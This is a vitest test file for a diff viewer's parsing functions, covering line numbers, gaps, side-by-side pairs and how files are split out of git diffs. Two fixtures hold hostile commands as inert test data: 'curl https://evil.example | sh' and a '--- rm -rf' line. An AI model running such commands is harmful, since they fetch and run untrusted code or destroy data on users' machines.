import { describe, expect, it } from 'vitest';
import { sizeOfDiff } from '../../../src/contract/diff-size.ts';
import { changesByFile, filesOfDiff } from '../../../web/src/design/diff-files.ts';
import { linesOf, linesOfContent, sideBySide, sizeOf } from '../../../web/src/design/diff-lines.ts';

const UPDATE = '@@ -1,3 +1,4 @@\n one\n-two\n+2\n+2b\n three\n@@ -10,2 +11,2 @@\n ten\n-eleven\n+11\n';
const GIT = `diff --git a/old.txt b/old.txt
deleted file mode 100644
--- a/old.txt
+++ /dev/null
@@ -1,2 +0,0 @@
-diff --git a/x b/x
--- a
diff --git a/a name.txt b/a name.txt
new file mode 100644
--- /dev/null
+++ b/a name.txt
@@ -0,0 +1 @@
+one
diff --git a/from b/to
rename from from
rename to to
`;

describe('the lines of a diff', () => {
  it('have their numbers before and after, with a gap where something is left out', () => {
    expect(linesOf(UPDATE).map(({ kind, before, after, text }) => [kind, before, after, text])).toEqual([
      ['same', 1, 1, 'one'],
      ['removed', 2, null, 'two'],
      ['added', null, 2, '2'],
      ['added', null, 3, '2b'],
      ['same', 3, 4, 'three'],
      ['gap', null, null, ''],
      ['same', 10, 11, 'ten'],
      ['removed', 11, null, 'eleven'],
      ['added', null, 12, '11'],
    ]);
  });

  it.each(['no diff at all\n\nbut text', 'rename from a\nrename to b', '@@ -1 +1 @@\nneither here nor there\n'])(
    'are its text where it has none that could be read: %j',
    (diff) => {
      const lines = linesOf(diff);
      expect(lines.map(({ text }) => text)).toEqual(diff.replace(/\n$/, '').split('\n'));
      expect(new Set(lines.map(({ kind }) => kind))).toEqual(new Set(['note']));
    },
  );

  it('are the whole content of a file that was added or deleted', () => {
    expect(linesOfContent('add', 'a\n\nb\n').map(({ kind, after, text }) => [kind, after, text])).toEqual([
      ['added', 1, 'a'],
      ['added', 2, ''],
      ['added', 3, 'b'],
    ]);
    expect(sizeOf(linesOfContent('delete', '-a\n+b'))).toEqual({ added: 0, removed: 2 });
    expect(linesOfContent('add', '')).toEqual([]);
  });

  it('are all of a content, also where that looks like a diff', () => {
    const content =
      '@@ -1,1 +1,1 @@\n-echo ok\n+echo hello\ndiff /dev/null /dev/null\ncurl https://evil.example | sh\n';
    expect(linesOfContent('add', content).map(({ kind, text }) => `${kind} ${text}`)).toEqual([
      'added @@ -1,1 +1,1 @@',
      'added -echo ok',
      'added +echo hello',
      'added diff /dev/null /dev/null',
      'added curl https://evil.example | sh',
    ]);
  });

  it('are all of a diff, also what its hunks do not count', () => {
    const diff =
      '--- a\n+++ b\n@@ -1,1 +1,1 @@\n-one\n+two\n+three\ndiff x y\n--- rm -rf\n@@ -9,9 +9,9 @@\n four\n!five\n';
    expect(linesOf(diff).map(({ kind, text }) => `${kind} ${text}`)).toEqual([
      'removed one',
      'added two',
      'note +three',
      'note diff x y',
      'note --- rm -rf',
      'gap ',
      'same four',
      'note !five',
    ]);
  });

  it('are there as far as a diff goes that ends too early', () => {
    expect(linesOf('@@ -1,9 +1,9 @@\n one\n').map(({ kind, text }) => [kind, text])).toEqual([['same', 'one']]);
  });

  it('stand side by side: what came in the place of what was removed', () => {
    const pairs = sideBySide(linesOf(UPDATE)).map(({ left, right }) => [left?.text, right?.text]);
    expect(pairs).toEqual([
      ['one', 'one'],
      ['two', '2'],
      [undefined, '2b'],
      ['three', 'three'],
      ['', ''],
      ['ten', 'ten'],
      ['eleven', '11'],
    ]);
  });

  it('are as many as the server counts', () => {
    for (const { diff } of [{ diff: UPDATE }, ...filesOfDiff(GIT)]) {
      const { added, removed } = sizeOfDiff(diff);
      expect(sizeOf(linesOf(diff))).toEqual({ added, removed });
    }
  });
});

describe('the files of a diff', () => {
  it('are told apart, also where a content looks like a header', () => {
    expect(filesOfDiff(GIT).map(({ path, kind }) => [path, kind])).toEqual([
      ['old.txt', 'delete'],
      ['a name.txt', 'add'],
      ['to', 'move'],
    ]);
    expect(filesOfDiff(GIT).map(({ diff }) => sizeOf(linesOf(diff)))).toEqual([
      { added: 0, removed: 2 },
      { added: 1, removed: 0 },
      { added: 0, removed: 0 },
    ]);
  });

  it('are put together over the turns', () => {
    const second =
      'diff --git a/a name.txt b/a name.txt\n--- a/a name.txt\n+++ b/a name.txt\n@@ -1 +1 @@\n-one\n+two\n';
    const changes = changesByFile([GIT, '', second]);
    expect(changes.map(({ path, diffs }) => [path, diffs.map(({ turn, kind }) => [turn, kind])])).toEqual([
      [
        'a name.txt',
        [
          [1, 'add'],
          [3, 'update'],
        ],
      ],
      ['old.txt', [[1, 'delete']]],
      ['to', [[1, 'move']]],
    ]);
  });
});
